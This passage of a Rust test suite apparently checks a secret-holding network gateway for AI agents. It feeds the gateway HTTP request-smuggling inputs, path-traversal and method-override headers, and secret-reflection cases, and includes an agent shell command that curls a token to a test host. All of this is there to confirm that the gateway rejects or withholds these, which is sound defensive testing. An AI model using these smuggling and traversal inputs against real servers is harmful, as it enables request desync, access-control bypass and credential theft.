    ("no JSON", "200", lambda: ask(post("/json-no", '{"auth":'))),
    ("half a segment", "403", lambda: ask(get(f"/bot{P}x/"))),
    ("a segment without its form", "403", lambda: ask(get(f"/{P}/"))),
    ("a segment in percent", "403", lambda: ask(get(f"/bot%{ord(P[0]):02x}{P[1:]}/"))),
    ("a segment of the query", "403", lambda: ask(get(f"/a?/bot{P}/"))),
    ("a segment and more of it", "403", lambda: ask(get(f"/bot{P}/{P}/"))),
    ("another member", "403", lambda: ask(post("/json-x", '{"auth":{"tokens":"%s"}}' % P))),
    ("a member of a list", "403", lambda: ask(post("/json-x", '[{"auth":{"token":"%s"}}]' % P))),
    ("a member deeper", "403", lambda: ask(post("/json-x", '{"x":{"auth":{"token":"%s"}}}' % P))),
    ("a member that is longer", "403", lambda: ask(post("/json-x", BODY % (P + "x")))),
    ("a member that is no string", "403", lambda: ask(post("/json-x", '{"auth":{"token":["%s"]}}' % P))),
    ("a member twice", "403", lambda: ask(post("/json-x", '{"auth":{"token":"%s","token":"%s"}}' % (P, P)))),
    ("a member and another", "403", lambda: ask(post("/json-x", '{"auth":{"token":"%s"},"b":"%s"}' % (P, P)))),
    ("the name of a member", "403", lambda: ask(post("/json-x", '{"auth":{"token":"","%s":1}}' % P))),
    ("a member in something else", "403", lambda: ask(post("/json-x", BODY % P, "Content-Type: text/plain\r\n"))),
    ("a member of what is too long", "403", lambda: ask(post("/json-x", BODY % P + " " * (1 << 20)))),
    ("a member in chunks", "403", lambda: ask(chunked(BODY % P))),
    ("still there", "200", lambda: ask(get("/still"))),
]
try_all(cases)
"#;

#[test]
fn paths_and_bodies_have_places_too() {
    let world = World::new("inside-parts");
    world.home.done(&["secret", "use-where", "api", "--slot", "path:bot{}", "--slot", "json:/auth/token"]);
    world.cases(&[], PARTS);
    let heard = world.api.heard();
    let secret = value();
    for line in
        [format!("GET /bot{secret}/sendMessage?a=b HTTP/1.1\r\n"), format!("GET /bot{secret} HTTP/1.1\r\n")]
    {
        assert!(heard.contains(&line), "{line}: {heard}");
    }
    let member = format!(r#"{{"auth":{{"token":"{secret}"}},"n":1.50}}"#);
    assert_eq!(heard.matches(&member).count(), 4, "{heard}");
    assert_eq!(heard.matches(&secret).count(), 6, "nowhere else: {heard}");
    assert!(heard.contains(r#"{"auth":{"token":""},"n":1.50}"#) && !heard.contains("own-token"), "{heard}");
    assert!(heard.contains("GET /bot{api}/named ") && heard.contains("GET /plain/botx "), "{heard}");
    let whole = |rest: &str| rest.bytes().take_while(u8::is_ascii_alphanumeric).count() >= 36;
    assert!(!heard.split("ghp_").skip(1).any(whole), "{heard}");
}

/// Requests that are read in different ways by different servers.
const FRAMING: &str = r#"
number = 0
def raw(*lines, body="", method="POST"):
    global number
    number += 1
    return lambda: ask("\r\n".join([f"{method} /framing-{number} HTTP/1.1", HOST.strip(), AUTH.strip(), *lines, "", body]))
LINE = lambda line: lambda: ask(f"{line}\r\n{HOST}\r\n")
cases = [(name, "400|421|431", case) for name, case in [
    ("a length and chunks", raw("Content-Length: 5", "Transfer-Encoding: chunked", body="0\r\n\r\nGET /framing- HTTP/1.1\r\n\r\n")),
    ("chunks and a length", raw("Transfer-Encoding: chunked", "Content-Length: 5", body="0\r\n\r\n")),
    ("two lengths", raw("Content-Length: 5", "Content-Length: 6", body="hello!")),
    ("the same length twice", raw("Content-Length: 5", "Content-Length: 5", body="hello")),
    ("lengths in a list", raw("Content-Length: 5, 5", body="hello")),
    ("a length with a sign", raw("Content-Length: +5", body="hello")),
    ("a negative length", raw("Content-Length: -1", body="hello")),
    ("a length in hexadecimal", raw("Content-Length: 0x5", body="hello")),
    ("a length with a zero before it", raw("Content-Length: 05", body="hello")),
    ("a length that is none", raw("Content-Length: five", body="hello")),
    ("an empty length", raw("Content-Length: ", body="hello")),
    ("a length beyond numbers", raw("Content-Length: 99999999999999999999", body="hello")),
    ("chunks twice", raw("Transfer-Encoding: chunked", "Transfer-Encoding: chunked", body="0\r\n\r\n")),
    ("chunks in chunks", raw("Transfer-Encoding: chunked, chunked", body="0\r\n\r\n")),
    ("packed chunks", raw("Transfer-Encoding: gzip, chunked", body="0\r\n\r\n")),
    ("almost chunks", raw("Transfer-Encoding: xchunked", body="0\r\n\r\n")),
    ("identity", raw("Transfer-Encoding: identity", body="0\r\n\r\n")),
    ("chunks with a tab", raw("Transfer-Encoding: chunked\x0b", body="0\r\n\r\n")),
    ("chunks of HTTP/1.0", LINE(f"POST /framing-a HTTP/1.0\r\nTransfer-Encoding: chunked")),
    ("a folded line", raw("X-A: b", " c")),
    ("a folded length", raw("X-A: b", "\tContent-Length: 5")),
    ("a space before the colon", raw("Content-Length : 5", body="hello")),
    ("a space in a name", raw("X A: b")),
    ("a line without a colon", raw("nothing")),
    ("an empty name", raw(": b")),
    ("a zero in a value", raw("X-A: b\0c")),
    ("a CR in a value", raw("X-A: b\rc")),
    ("a bare LF between lines", lambda: ask(f"GET /framing-b HTTP/1.1\n{HOST}\r\n")),
    ("a bare LF in the head", lambda: ask(f"GET /framing-c HTTP/1.1\r\nX-A: b\n{HOST}\r\n")),
    ("a bare LF at its end", lambda: ask(f"GET /framing-d HTTP/1.1\r\n{HOST.strip()}\n\n")),
    ("a body of GET", raw("Content-Length: 5", body="hello", method="GET")),
    ("chunks of GET", raw("Transfer-Encoding: chunked", body="0\r\n\r\n", method="GET")),
    ("a body of HEAD", raw("Content-Length: 5", body="hello", method="HEAD")),
    ("a size with a sign", raw("Transfer-Encoding: chunked", body="+5\r\nhello\r\n0\r\n\r\n")),
    ("a size in 0x", raw("Transfer-Encoding: chunked", body="0x5\r\nhello\r\n0\r\n\r\n")),
    ("a size beyond numbers", raw("Transfer-Encoding: chunked", body="fffffffffffffffff\r\nhello\r\n0\r\n\r\n")),
    ("a size with a space", raw("Transfer-Encoding: chunked", body="5 \r\nhello\r\n0\r\n\r\n")),
    ("a size and a bare LF", raw("Transfer-Encoding: chunked", body="5\nhello\r\n0\r\n\r\n")),
    ("a chunk without its end", raw("Transfer-Encoding: chunked", body="5\r\nhello0\r\n\r\n")),
    ("a chunk with another end", raw("Transfer-Encoding: chunked", body="5\r\nhello\n\n0\r\n\r\n")),
    ("no size", raw("Transfer-Encoding: chunked", body="\r\nhello\r\n0\r\n\r\n")),
    ("more after the last chunk", raw("Transfer-Encoding: chunked", body="0\r\nX-A: b\r\n\r\n")),
    ("another version", LINE("GET /framing-e HTTP/1.2")),
    ("HTTP/2 as a version", LINE("GET /framing-f HTTP/2.0")),
    ("a version in lower case", LINE("GET /framing-g http/1.1")),
    ("no version", LINE("GET /framing-h")),
    ("a fragment", LINE("GET /framing-i#x HTTP/1.1")),
    ("a space in the target", LINE("GET /framing j HTTP/1.1")),
    ("a tab in the first line", LINE("GET\t/framing-k HTTP/1.1")),
    ("a backslash for a path", LINE("GET \\framing-l HTTP/1.1")),
    ("a star for a path", LINE("OPTIONS * HTTP/1.1")),
    ("a zero in the target", LINE("GET /framing-m\0 HTTP/1.1")),
    ("what is expected otherwise", raw("Expect: something", "Content-Length: 5", body="hello")),
    ("too many lines", raw(*["X-A: b"] * 120)),
    ("too long a head", raw("X-A: " + "b" * 17000)),
]]
try_all(cases + [("still there", "200", lambda: ask(f"GET /still HTTP/1.1\r\n{HOST}{AUTH}\r\n"))])
"#;

#[test]
fn what_could_be_read_in_two_ways_is_not_passed_on() {
    let world = World::new("inside-framing");
    let (outcomes, _) = world.cases(&[], FRAMING);
    assert!(outcomes.len() >= 55, "{}", outcomes.len());
    let heard = world.api.heard();
    assert!(heard.contains("GET /still"), "{heard}");
    // Of those that go wrong in their bodies, the head has gone out already; no body is whole, and nothing is taken for a request.
    for request in heard.split("POST ").skip(1) {
        assert!(
            request.contains("transfer-encoding: chunked") && !request.contains("\r\n0\r\n"),
            "{request}"
        );
    }
    assert!(!heard.contains("GET /framing"), "{heard}");
}

/// Ways in which a server says the secret.
const KINDS: [&str; 41] = [
    "plain",
    "head",
    "hex",
    "percent",
    "twice-percent",
    "base64",
    "shifted",
    "twice-base64",
    "basic",
    "escaped",
    "nested",
    "key",
    "halves",
    "not-json",
    "entities",
    "reversed",
    "spaced",
    "upper",
    "header",
    "header-name",
    "location",
    "cookie",
    "challenge",
    "reason",
    "error",
    "not-modified",
    "hints",
    "bytes",
    "chunks",
    "trailer",
    "events",
    "split-events",
    "packed",
    "stacked",
    "silently-packed",
    "edge",
    "before-edge",
    "long",
    "switch",
    "no-end",
    "range",
];

#[test]
fn what_a_server_says_of_the_secret_does_not_reach_the_cell() {
    let world = World::new("inside-reflection");
    let kinds: Vec<String> = KINDS.iter().map(ToString::to_string).collect();
    let script = format!(
        "for kind in {kinds:?}:\n    said = ask(f\"GET /reflect/{{kind}} HTTP/1.1\\r\\n{{HOST}}{{AUTH}}Range: bytes=0-3\\r\\nAccept-Encoding: gzip, br\\r\\nConnection: close\\r\\n\\r\\n\")\n    \
         sys.stdout.write(f\"== {{kind}}\\n\" + said.decode(\"utf-8\", \"backslashreplace\") + \"\\n\")\n"
    );
    let (said, why) = world.python(&[], &script);
    let secret = value();
    let reversed: String = secret.chars().rev().collect();
    let (half, rest) = secret.split_at(13);
    let spaced: String = secret.chars().flat_map(|c| [c, ' ']).collect();
    let entities: String = secret.bytes().map(|byte| format!("&#{byte};")).collect();
    let base64 = [secret.clone(), format!("x{secret}"), format!("bot:{secret}"), STANDARD.encode(&secret)]
        .map(|text| STANDARD.encode(text));
    let mut spellings = vec![
        half.to_owned(),
        rest.to_owned(),
        hex(&secret),
        percent(&secret),
        percent(&percent(&secret)),
        escaped(&secret),
    ];
    spellings.extend([reversed, spaced.trim_end().to_owned(), secret.to_uppercase(), entities]);
    spellings.extend(base64);
    let answers: BTreeMap<&str, &str> = said.split("== ").filter_map(|part| part.split_once('\n')).collect();
    assert_eq!(answers.len(), KINDS.len(), "{said}{why}");
    for (kind, answer) in &answers {
        for spelling in &spellings {
            assert!(!answer.contains(spelling.as_str()), "{kind}: {spelling} in {answer}");
        }
    }
    // What is not a secret comes through.
    assert!(
        answers["error"].starts_with("HTTP/1.1 500 ") && answers["location"].starts_with("HTTP/1.1 302 ")
    );
    assert!(answers["plain"].contains("⟦secret:api#"), "{}", answers["plain"]);
    assert!(
        answers["long"].matches("lorem ipsum").count() == 100_000 && answers["long"].ends_with("0\r\n\r\n\n")
    );
    for kind in ["packed", "stacked", "switch"] {
        assert!(
            answers[kind].starts_with("HTTP/1.1 502 ") && answers[kind].contains("withheld"),
            "{kind}: {}",
            answers[kind]
        );
    }
    let heard = world.api.heard().to_ascii_lowercase();
    assert!(!heard.contains("range:") && heard.contains("accept-encoding: identity"), "{heard}");
}

#[test]
fn a_placeholder_ends_with_its_cell() {
    let world = World::new("inside-over");
    let (old, _) = world.run(&[], &["/bin/sh", "-c", "echo $API_TOKEN"]);
    let script = "try_all([(\"another's\", \"200\", lambda: ask(f\"GET /old HTTP/1.1\\r\\n{HOST}Authorization: Bearer OLD\\r\\n\\r\\n\"))])";
    let script = script.replace("OLD", old.trim());
    world.cases(&[], &script);
    let heard = world.api.heard();
    assert!(
        heard.contains("GET /old") && !heard.contains(&value()) && !heard.contains(old.trim()),
        "{heard}"
    );
}

#[test]
fn a_server_that_cannot_show_its_name_gets_nothing() {
    let world = World::new("inside-server");
    // The right host, and an authority that nobody has said is to be believed; and another name, by the right one.
    let stranger =
        Server::start(Some(Authority::new(&world.home, "other-ca.pem").serves("api.host.internal")));
    for (server, name) in [(&stranger, "a stranger"), (&world.other, "another name")] {
        let host = format!("api.host.internal:{}", server.port);
        world.home.done(&["secret", "use-where", "api", "--host", &host]);
        let net = format!("{host},private");
        let script = format!(
            "HOST = \"Host: {host}\\r\\n\"\ntry_all([(\"{name}\", \"502\", lambda: ask(f\"GET / HTTP/1.1\\r\\n{{HOST}}{{AUTH}}\\r\\n\", sock=tcp(port={})))])",
            server.port
        );
        let (_, why) = world.cases(&["--net", &net], &script);
        assert!(why.contains("the server cannot show a certificate"), "{why}");
        assert!(!server.heard().contains(&value()) && !server.heard().contains("GET"), "{}", server.heard());
    }
}

/// Kinds of requests inside TLS.
const RULES: &str = r#"
def get(target, method="GET", more="", body=""):
    return lambda: ask(f"{method} {target} HTTP/1.1\r\n{HOST}{AUTH}{more}\r\n{body}")
try_all([
    ("below", "200", get("/v1/items?a=b")),
    ("another method", "403", get("/v1/items", "POST", "Content-Length: 2\r\n", "hi")),
    ("the other rule", "200", get("/v2", "POST", "Content-Length: 2\r\n", "hi")),
    ("another path", "403", get("/v3")),
    ("a path that begins so", "403", get("/v1x")),
    ("up and down", "403", get("/v1/../v3")),
    ("up, in percent", "403", get("/v1/%2e%2e/v3")),
    ("two slashes", "403", get("//v1")),
    ("another method in a header", "400", get("/v1", more="X-HTTP-Method-Override: DELETE\r\n")),
    ("another path in a header", "400", get("/v1", more="X-Original-URL: /v3\r\n")),
    ("an underscore", "400", get("/v1", more="X_HTTP_METHOD: DELETE\r\n")),
])
"#;

#[test]
fn rules_for_requests_hold_inside_tls() {
    let world = World::new("inside-rules");
    let net = format!("{},private,GET=/v1,POST=/v2", world.host());
    let (_, why) = world.cases(&["--net", &net], RULES);
    assert!(why.contains("no rule has this method and path"), "{why}");
    let heard = world.api.heard();
    assert_eq!(heard.matches(" HTTP/1.1\r\n").count(), 2, "{heard}");
    // Where nobody reads what is inside, such a rule allows nothing.
    let ask = "import socket; socket.create_connection((\"elsewhere.host.internal\", 443), 5)";
    let net = ["--net", "elsewhere.host.internal:443,private,GET=/v1"];
    let (_, why) = world.run(&net, &["/usr/bin/python3", "-c", ask]);
    assert!(why.contains("which are inside TLS"), "{why}");
    let config = "[servers.shell]\nbuiltin = \"shell\"\nprofile = \"narrow\"\nsecrets = [\"api\"]\n[profiles.narrow]\n";
    world.home.config(&format!("{config}net = [\"elsewhere.host.internal:443,GET=/v1\"]\n"));
    let error = world.home.shown(&["up", "--listen", "127.0.0.1:0"]);
    assert!(
        error.contains("is for requests inside TLS") && error.contains("a secret with a placeholder"),
        "{error}"
    );
}

#[test]
fn what_an_agent_writes_gets_placeholders_only() {
    let world = World::new("inside-shell");
    let port = world.api.port;
    world.home.config(&format!(
        "[servers.shell]\nbuiltin = \"shell\"\nprofile = \"api\"\nsecrets = [\"api\"]\nca_file = \"{}/ca.pem\"\n\
         [profiles.api]\nnet = [\"api.host.internal:{port},private\"]\n",
        world.home.path().display()
    ));
    world.home.policy("@id(\"all\") @because(\"it is a test\")\npermit(principal, action, resource);\n");
    // A server's own program could be handed the secret itself; what an agent writes is not.
    world.home.done(&[
        "secret",
        "use-where",
        "api",
        "--slot",
        "env:REAL_TOKEN",
        "--slot",
        "header:Authorization",
    ]);
    world.home.done(&["tool", "review"]);
    world.home.done(&["tool", "accept", "--all"]);
    let token = world.home.done(&["agent", "add", "support"]);
    let mut gate = world.home.up(&[]);
    gate.token = Some(token.trim().to_owned());
    gate.hello().unwrap();
    let url = format!("https://api.host.internal:{port}/reflect/head");
    let script = format!(
        "echo \"real: <${{REAL_TOKEN-}}>\"; curl -sS -H \"Authorization: Bearer $API_TOKEN\" {url}; curl -sS -d \"$API_TOKEN\" {url}"
    );
    let asked = json!({ "name": "shell__exec", "arguments": { "script": script } });
    let answer = gate.ask("tools/call", &asked).to_string();
    assert!(answer.contains("real: <>") && answer.contains("you said GET"), "{answer}");
    assert!(answer.contains("said in another place than its own") && !answer.contains(&value()), "{answer}");
    assert_eq!(world.api.heard().matches(&value()).count(), 1, "{}", world.api.heard());
    // The record of the call's connections says it.
    let tail = world.home.done(&["log", "tail", "-n", "50", "--json"]);
    let indices = tail
        .lines()
        .map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap()["index"].to_string());
    let records: Vec<String> = indices.map(|index| world.home.done(&["log", "show", &index])).collect();
    assert!(records.iter().any(|record| record.contains("ALARM")), "{records:#?}");
    assert!(!records.iter().any(|record| record.contains(&value())), "{records:#?}");
}
